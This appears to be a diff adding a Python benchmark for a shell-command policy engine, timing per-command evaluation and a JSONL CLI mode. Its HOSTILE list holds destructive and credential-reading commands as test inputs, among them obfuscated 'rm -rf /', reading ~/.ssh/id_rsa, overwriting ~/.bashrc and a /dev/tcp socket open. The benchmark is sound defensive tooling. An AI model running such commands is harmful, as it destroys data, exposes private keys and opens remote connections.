@@ -1,0 +1,110 @@
+"""Benchmark: `Policy.evaluate` per command, and `policylang eval --jsonl` throughput.
+
+Run: .venv/bin/python benchmarks/bench_engine.py [--n N] [--skip-jsonl]
+
+The sample is fixed (seeded): commands from ../shared/corpora (tldr, nl2bash, codex_cases)
+plus compound and hostile lines. No cache: every call parses and evaluates from scratch.
+Targets (issue 4): median <= 15 us, p99 <= 150 us; eval --jsonl >= 20,000 commands/s.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import random
+import statistics
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+from policylang.engine.context import EvalContext
+from policylang.engine.policy import load_policy
+
+ROOT = Path(__file__).resolve().parents[1]
+CORPORA = ROOT.parent / "shared" / "corpora"
+
+HOSTILE = (
+    "cd ~/.ssh && cat id_rsa",
+    "echo $(sudo id) | bash",
+    "$'\\x72\\x6d' -rf /",
+    "bash -c 'bash -c \"rm -rf ~\"'",
+    "env -i PATH=/tmp timeout 5 nice -n 1 rm -rf /",
+    "cat <<EOF > ~/.bashrc\nevil\nEOF",
+    "git status && git log --oneline -5 && git diff --stat",
+    "find . -name '*.py' | xargs grep -n TODO | sort | uniq -c | sort -rn | head",
+    "ls -la | grep foo | wc -l",
+    "PATH=/tmp:$PATH; ls",
+    'for f in *.py; do wc -l "$f"; done',
+    "exec 3<>/dev/tcp/10.0.0.1/4444",
+)
+
+
+def _column(path: Path, name: str) -> list[str]:
+    lines = path.read_text(encoding="utf-8").splitlines()
+    index = lines[0].split("\t").index(name)
+    return [line.split("\t")[index] for line in lines[1:] if line.count("\t") >= index]
+
+
+def sample(n: int, seed: int = 4) -> list[str]:
+    rng = random.Random(seed)
+    commands: list[str] = []
+    if CORPORA.is_dir():
+        for name in ("tldr.tsv", "nl2bash.tsv", "codex_cases.tsv"):
+            pool = _column(CORPORA / name, "command")
+            commands.extend(rng.sample(pool, min(len(pool), n // 3)))
+    else:
+        print("note: ../shared/corpora not found; sampling only built-in lines", file=sys.stderr)
+    commands.extend(HOSTILE * max(1, n // (10 * len(HOSTILE))))
+    rng.shuffle(commands)
+    return commands
+
+
+def bench_evaluate(commands: list[str], repeats: int = 3) -> None:
+    policy = load_policy()
+    ctx = EvalContext.build(workspace="/nonexistent/workspace", env={"HOME": "/nonexistent/home"})
+    for command in commands[:200]:  # warm up imports and caches of the interpreter
+        policy.evaluate_in(command, ctx)
+    timings: list[float] = []
+    clock = time.perf_counter_ns
+    for _ in range(repeats):
+        for command in commands:
+            start = clock()
+            policy.evaluate_in(command, ctx)
+            timings.append((clock() - start) / 1000)
+    timings.sort()
+    q = statistics.quantiles(timings, n=100)
+    print(f"evaluate: {len(commands)} commands x {repeats}, no cache")
+    print(f"  median {statistics.median(timings):8.1f} us   (target <= 15)")
+    print(f"  p90    {q[89]:8.1f} us")
+    print(f"  p99    {q[98]:8.1f} us   (target <= 150)")
+    print(f"  max    {timings[-1]:8.1f} us")
+
+
+def bench_jsonl(commands: list[str]) -> None:
+    payload = "".join(json.dumps({"command": c}) + "\n" for c in commands * 3)
+    exe = Path(sys.executable).with_name("policylang")
+    args = [str(exe)] if exe.exists() else [sys.executable, "-m", "policylang.cli.main"]
+    args += ["eval", "--jsonl", "--workspace", "/nonexistent/workspace"]
+    start = time.perf_counter()
+    done = subprocess.run(args, input=payload, capture_output=True, text=True, check=True)
+    elapsed = time.perf_counter() - start
+    lines = done.stdout.count("\n")
+    print(f"eval --jsonl: {lines} commands in {elapsed:.2f} s (process start included)")
+    print(f"  {lines / elapsed:,.0f} commands/s   (target >= 20,000)")
+
+
+def main() -> int:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--n", type=int, default=6000, help="sample size")
+    parser.add_argument("--skip-jsonl", action="store_true")
+    args = parser.parse_args()
+    commands = sample(args.n)
+    bench_evaluate(commands)
+    if not args.skip_jsonl:
+        bench_jsonl(commands)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
